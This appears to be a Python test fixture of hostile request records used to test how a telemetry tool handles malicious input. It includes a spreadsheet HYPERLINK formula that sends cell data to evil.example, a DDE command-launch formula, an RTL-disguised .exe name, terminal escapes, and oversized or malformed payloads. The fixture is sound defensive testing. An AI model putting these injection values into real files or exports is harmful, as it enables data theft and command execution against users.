"""These are exchanges that somebody sent, or made of the file, to do harm wherever they are read."""

from telemock.exchange import Exchange, compact_json
from tests.corpus import moment, ping

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Error")'
COMMAND = "@SUM(1+9)*cmd|' /C calc'!A0"
TURNED = "invoice\u202egpj.exe"
DEEP = "[" * 1000 + "]" * 1000
DIGITS = "9" * 400

HOSTILE: tuple[Exchange, ...] = (
    ping(0, guid=FORMULA, env=COMMAND, query=f"v={FORMULA.replace('&', '%26')}&n=-1&m=%2B1&n=%00"),
    ping(1, version=TURNED, session_id="\x1b]0;owned\x07\x9b31m", client_time="yesterday\x00"),
    ping(2, request_body=DEEP.encode(), host="", path="*"),
    ping(3, request_body=b"x" * 2**20, query="v=" + "%41" * 350_000),
    ping(4, request_body=compact_json({f"field{number}": number for number in range(10_100)}).encode()),
    ping(
        5,
        request_headers=compact_json([["X-Byte", "\udcff<script>"], ["Cookie", "a=1; b; =c; d=\udc80"]]),
        response_headers=compact_json([["Set-Cookie", "s=1; Path=/; Secure; HttpOnly; Expires=never"]]),
        response_body=b"\xff\x00",
    ),
    ping(6, request_body=f'{{"n":{DIGITS},"f":1e999,"nan":NaN,"s":"\\ud800"}}'.encode()),
    ping(7, received_at="not a time", latency_ms=float("inf"), path="/a b|c%zz\u00e9", status=499),
    ping(8, params='{"a": NaN}', request_headers="[1, 2", response_headers='{"a":\n1}', problems="\n"),
    ping(8, params="[1", env="\x7f"),
    ping(9, params=DEEP[:100_000], request_headers='["Content-Encoding"]', problems='["\\u00e9"]'),
    ping(10, request_truncated=1, request_body=b"\x1f\x8b\x08", received_at=moment(10).replace("T", " ")),
    ping(11, request_headers=compact_json([["Content-Encoding", "gzip"]]), request_body=b"\x1f\x8b\x08"),
)
